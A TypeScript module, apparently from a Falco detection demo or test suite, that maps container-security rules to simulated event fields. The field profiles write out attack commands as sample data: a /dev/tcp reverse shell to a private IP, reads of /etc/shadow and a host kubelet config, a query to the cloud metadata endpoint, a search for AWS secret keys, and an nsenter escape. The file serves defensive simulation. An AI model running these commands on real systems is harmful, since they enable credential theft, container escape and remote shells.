// What a real Falco would report for each rule the demo and the tests fire: the process, its
// parent, the file or connection it touched, all fitting the rule (a package manager runs apk or
// apt, a shell with a terminal is bash under runc, a packet socket has no file). Fields a rule's
// output template names and no profile sets are derived from these (process name and path from
// the command line) or take the values every container event has (user root, uid 0).

export type TFieldValue = string | number;

/** per rule: the fields that make its event fit it */
export const RULE_PROFILES: Record<string, Record<string, TFieldValue>> = {
  "Terminal shell in container": { "evt.type": "execve", "proc.cmdline": "bash", "proc.pname": "runc", "proc.tty": 34816 },
  "Read sensitive file untrusted": { "evt.type": "openat", "proc.cmdline": "cat /etc/shadow", "fd.name": "/etc/shadow", "proc.pname": "bash" },
  "Drop and execute new binary in container": { "evt.type": "execve", "proc.cmdline": "/tmp/kworkerd -c /tmp/.cfg", "proc.pname": "sh", "proc.cwd": "/tmp/", "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER" },
  "Launch Package Management Process in Container": { "evt.type": "execve", "proc.cmdline": "apt-get install -y curl", "proc.pname": "sh" },
  "Redirect STDOUT/STDIN to Network Connection in Container": {
    "evt.type": "dup2",
    "proc.cmdline": "sh -c 'sh -i >& /dev/tcp/10.0.5.23/4444 0>&1'",
    "proc.name": "sh",
    "proc.pname": "python3",
    "fd.name": "10.0.2.14:51832->10.0.5.23:4444",
    "fd.sip": "10.0.5.23",
    "fd.lport": 51832,
    "fd.rport": 4444,
    "fd.type": "ipv4",
    "fd.l4proto": "tcp",
  },
  "Packet socket created in container": {
    "evt.type": "socket",
    "evt.args": "fd=5(<p>) domain=17(AF_PACKET) type=3 proto=768",
    "proc.cmdline": "tcpdump -i any -c 200 port 3000",
    "proc.pname": "sh",
    "fd.name": "<NA>",
    "fd.type": "<NA>",
    "fd.l4proto": "<NA>",
    "fd.lport": "<NA>",
    "fd.rport": "<NA>",
  },
  "Contact EC2 Instance Metadata Service From Container": {
    "evt.type": "connect",
    "proc.cmdline": "curl -s http://169.254.169.254/latest/meta-data/",
    "proc.pname": "bash",
    "fd.name": "10.0.1.17:40312->169.254.169.254:80",
    "fd.lport": 40312,
    "fd.rport": 80,
    "fd.type": "ipv4",
    "fd.l4proto": "tcp",
  },
  "Find AWS Credentials": { "evt.type": "execve", "proc.cmdline": "grep -r aws_secret_access_key /", "proc.pname": "bash", "proc.pcmdline": "bash", "proc.cwd": "/" },
  "Change thread namespace": { "evt.type": "setns", "proc.cmdline": "nsenter --target 1 --mount -- sh", "proc.pname": "bash" },
  "Write below etc": { "evt.type": "openat", "proc.cmdline": "tee -a /etc/hosts", "fd.name": "/etc/hosts", "proc.pname": "bash", "proc.pcmdline": "bash" },
  "Container Access to Host Sensitive Paths": { "evt.type": "openat", "proc.cmdline": "cat /host/etc/kubernetes/kubelet.conf", "fd.name": "/host/etc/kubernetes/kubelet.conf", "proc.pname": "bash" },
  "Kubernetes Client Tool Launched in Container": { "evt.type": "execve", "proc.cmdline": "kubectl get pods -A", "proc.pname": "bash" },
  "Fileless execution via memfd_create": { "evt.type": "execve", "proc.cmdline": "memfd:payload", "proc.pname": "python3", "evt.arg.flags": "EXE_FROM_MEMFD" },
};

/** the values every container process event carries unless the rule's profile says otherwise */
const COMMON: Record<string, TFieldValue> = {
  "user.name": "root",
  "user.uid": 0,
  "user.loginuid": -1,
  "user.loginname": "<NA>",
  "group.gid": 0,
  "group.name": "root",
  "proc.tty": 0,
  "proc.cwd": "/",
  "proc.sname": "containerd-shim",
  "proc.aname[2]": "containerd-shim",
  "proc.aname[3]": "containerd",
  "proc.aname[4]": "systemd",
  "evt.res": "SUCCESS",
  "evt.arg.flags": "0",
  "evt.type": "execve",
  "proc.exe_ino.ctime": 1764600000000000000,
  "proc.exe_ino.mtime": 1764600000000000000,
  "proc.exe_ino.ctime_duration_proc_start": 1200000000,
  "container.start_ts": 1764590000000000000,
};

const BIN_DIR: Record<string, string> = { bash: "/bin", sh: "/bin", cat: "/bin", grep: "/bin", tee: "/usr/bin", nsenter: "/usr/bin" };

/** The process fields that follow from a command line: its name, executable and path. */
export function processOf(cmdline: string): { name: string; exe: string; exepath: string } {
  const exe = cmdline.trim().split(/\s+/)[0] ?? "";
  const name = exe.slice(exe.lastIndexOf("/") + 1).slice(0, 15);
  const exepath = exe.startsWith("/") ? exe : `${BIN_DIR[name] ?? "/usr/bin"}/${name}`;
  return { name, exe, exepath };
}

/**
 * The output fields of one event of `rule`: exactly the fields its template names, each from
 * the caller's `fields`, else the rule's profile, else derived or common, else `<NA>` as Falco
 * prints a field that does not apply.
 */
export function ruleFields(rule: { rule: string; output_fields: string[] }, given: Record<string, TFieldValue | null>): Record<string, TFieldValue | null> {
  const profile = RULE_PROFILES[rule.rule] ?? {};
  const pick = (f: string): TFieldValue | null | undefined => (f in given ? given[f] : f in profile ? profile[f] : undefined);
  const cmdline = String(pick("proc.cmdline") ?? "sh");
  const proc = processOf(cmdline);
  const parent = String(pick("proc.pname") ?? "bash");
  const derived: Record<string, TFieldValue> = {
    "proc.cmdline": cmdline,
    "proc.name": proc.name,
    "proc.exe": proc.exe,
    "proc.exepath": proc.exepath,
    "proc.pname": parent,
    "proc.pcmdline": parent,
  };
  const out: Record<string, TFieldValue | null> = {};
  for (const f of rule.output_fields) {
    const v = pick(f);
    out[f] = v !== undefined ? v : (derived[f] ?? COMMON[f] ?? "<NA>");
  }
  return out;
}
